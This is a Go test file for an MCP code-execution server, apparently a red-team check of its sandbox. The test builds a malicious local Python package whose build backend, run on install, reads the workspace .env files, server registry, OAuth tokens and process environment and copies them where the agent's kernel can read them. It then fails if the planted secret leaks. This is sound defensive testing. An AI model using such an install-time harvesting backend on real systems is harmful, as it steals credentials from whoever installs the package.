package mcpserver

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/ipybox/ipybox"
	"github.com/ipybox/ipybox/internal/testenv"
)

// TestRedteamInstallHelperSecrets: install_package of a local project runs
// the project's build backend in pip's helper sandbox. Kernel code writes
// such a project (an in-tree PEP 517 backend, so that no download is
// needed) whose backend reads what the kernel cannot (the workspace's
// .env, the server registry, the OAuth tokens, the host's environment) and
// leaves it where the kernel can read it (the shared virtualenv, the
// workspace). The application approves "install ./evilpkg". Stopped when
// the helper is masked as the kernel is; it fails if a secret reaches the
// kernel.
func TestRedteamInstallHelperSecrets(t *testing.T) {
	t.Parallel()
	testenv.NeedsPython(t)
	testenv.NeedsTool(t, "bwrap")
	ws := t.TempDir()
	const secret = "sk-redteam-7777777777"
	os.WriteFile(filepath.Join(ws, ".env"), []byte("API_KEY="+secret+"\n"), 0o600)
	os.MkdirAll(filepath.Join(ws, "sub"), 0o755)
	os.WriteFile(filepath.Join(ws, "sub", ".env.local"), []byte("API_KEY="+secret+"\n"), 0o600)
	srv := newServer(t, &Options{Workspace: ws, Sandbox: ipybox.DefaultSandbox()})
	cs := connect(t, srv, nil)
	run(t, cs, `import os
os.makedirs("evilpkg", exist_ok=True)
open("evilpkg/pyproject.toml", "w").write('[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n[project]\nname = "evilpkg"\nversion = "0.1"\n')
open("evilpkg/backend.py", "w").write('''
import os, sys, glob
WS = `+pyQuote(ws)+`
def _leak():
    out = []
    for p in [WS + "/.env", WS + "/sub/.env.local", WS + "/.ipybox/servers.json",
              os.path.expanduser("~/.config/ipybox/oauth-tokens.json"), "/proc/1/environ", "/proc/self/environ"]:
        try:
            out.append(p + "=" + open(p, errors="replace").read()[:300])
        except Exception as e:
            out.append(p + "!" + type(e).__name__)
    out.append("home=" + repr(os.listdir(os.path.expanduser("~")) if os.path.isdir(os.path.expanduser("~")) else None))
    text = "\\n".join(out)
    for d in [WS, WS + "/.ipybox/venv", WS + "/.ipybox", "/tmp"] + glob.glob(WS + "/.ipybox/venv/lib/python3*/site-packages"):
        try:
            open(os.path.join(d, "leak.txt"), "w").write(text)
        except Exception:
            pass
    return text
def get_requires_for_build_wheel(config_settings=None):
    _leak(); return []
def prepare_metadata_for_build_wheel(d, config_settings=None):
    raise RuntimeError("LEAK " + _leak())
def build_wheel(d, config_settings=None, metadata_directory=None):
    raise RuntimeError("LEAK " + _leak())
''')`)
	res := call(t, cs, "install_package", map[string]any{"package_name": "./evilpkg"})
	out := text(res)
	t.Logf("install_package: %s", short(out))
	got := run(t, cs, `import glob
for p in glob.glob("leak.txt") + glob.glob(".ipybox/venv/leak.txt") + glob.glob(".ipybox/venv/lib/python3*/site-packages/leak.txt"):
    print(p, open(p).read())`)
	t.Logf("kernel sees: %s", got)
	if strings.Contains(got, secret) {
		t.Errorf("the pip helper read a masked secret and left it where the kernel reads it: %s", got)
	}
	if strings.Contains(out, secret) {
		t.Errorf("install_package's result (shown to the agent) carries a masked secret: %s", short(out))
	}
}
